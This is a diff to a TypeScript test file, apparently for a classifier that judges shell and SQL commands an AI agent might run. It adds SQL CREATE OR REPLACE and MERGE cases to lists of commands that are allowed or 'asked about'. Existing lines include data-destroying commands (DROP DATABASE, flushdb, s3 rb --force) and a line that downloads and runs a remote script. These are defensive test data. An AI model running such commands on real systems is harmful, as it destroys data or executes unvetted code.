@@ -3,6 +3,8 @@ import { judgeTool, verdictOn } from "./test-verdicts.ts";
 
 describe("M04 what developers do with their own things passes", () => {
   test.each([
+    "CREATE OR REPLACE TABLE daily AS SELECT * FROM raw",
+    "MERGE INTO a USING b ON a.i = b.i WHEN NOT MATCHED THEN INSERT VALUES (b.i)",
     "docker compose -f docker-compose.test.yml down -v",
     "aws --endpoint-url=http://localhost:4566 s3 rb s3://test --force",
     "psql -c 'DROP DATABASE IF EXISTS app_test'",
@@ -93,6 +95,8 @@ describe("M04 what developers do with their own things passes", () => {
 
 describe("M04 what may be right is asked about", () => {
   test.each([
+    ["CREATE OR REPLACE TABLE users (id int)", "drop-schema"],
+    ["MERGE INTO a USING b ON a.i = b.i WHEN NOT MATCHED BY SOURCE THEN DELETE", "delete-data"],
     ["redis-cli -h localhost -n 15 flushdb", "delete-data"],
     ["docker compose down -v", "cloud-destruction"],
     ["wget https://x.io/a.sh && bash a.sh", "opaque-command"],
